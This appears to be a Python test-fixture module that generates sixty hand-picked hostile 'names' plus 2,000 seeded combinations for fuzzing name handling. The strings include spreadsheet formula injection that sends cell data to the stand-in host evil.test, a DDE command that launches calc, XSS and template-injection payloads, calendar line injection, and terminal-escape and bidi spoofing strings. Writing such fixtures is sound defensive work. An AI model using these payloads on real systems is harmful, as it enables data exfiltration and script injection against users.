"""Sixty names drawn by hand, each with a harm in mind, and two thousand put together from their pieces."""

from itertools import product
from random import Random

FORMULAS = (
    '=HYPERLINK("http://evil.test/?"&A1,"Ann")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.test/",A2),"//a")',
    "\uff1d1+1",
    "'=1+1",
    "{=TABLE(A1)}",
    "1E5",
    "00123",
    "2026-12-01",
    "TRUE",
    "#REF!",
    "http://evil.test/",
    "mailto:a@evil.test",
    "internal:Sheet1!A1",
    "file:///etc/passwd",
)
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><style>*{display:none}",
    "</title><svg onload=alert(1)>",
    "<!-- -->",
    "]]>",
    "&lt;b&gt;",
    "&#x3C;b>",
    "{{ 7*7 }}",
    "{% for x in y %}",
    "${7*7}",
    "<iframe src=//evil.test>",
    '<link rel=stylesheet href="//evil.test/x.css">',
    "url(//evil.test/x.png)",
    "| a | b |",
    "**bold** _it_ `code`",
    "[link](http://evil.test)",
    "![p](http://evil.test/p.png)",
    "@everyone #1 !2",
    "<details><summary>",
    "~~~\n# Heading",
)
CALENDAR = (
    "Ann\nBEGIN:VEVENT",
    "Ann\r\nEND:VCALENDAR",
    "Ann;TZID=Evil:20260101",
    "Ann,Bob;Cat",
    "Ann\\nBob\\",
    "Ann\r\n ATTACH:http://evil.test",
)
UNSEEN = (
    "Ann\x00\x07\x1b[2J\x1b]0;owned\x07",
    "\x1b[31mred",
    "Ann\u202egpj.exe",
    "\u2066Ann\u2069\u200f",
    "Ann\u200b\u200c\u200d\ufeff",
    "Ann\u2028Bob\u2029Cat",
    "Ann\x85Bob\x0b\x0c",
    "\ud800lonely",
    "Z\u0351\u0352\u0353a\u0351l\u0351go",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
)

FIXED: tuple[str, ...] = (*FORMULAS, *MARKUP, *CALENDAR, *UNSEEN)


def generated(number: int = 2000) -> list[str]:
    """Names put together from pieces of the sixty, the same at every run."""
    rolls = Random(20261122)  # noqa: S311 - made names, no secret
    pieces = [piece for name in FIXED for piece in (name, name[: len(name) // 2], name[len(name) // 2 :])]
    pieces += [
        "Ann",
        " ",
        "Ó Néill",
        "王",
        "a" * 70,
        "é" * 40,
        *(a + b for a, b in product("=+-@<>&\"'", "\t\n,;")),
    ]
    found: dict[str, None] = {}
    while len(found) < number:
        found["".join(rolls.choices(pieces, k=rolls.randint(1, 5)))[:120]] = None
    return list(found)
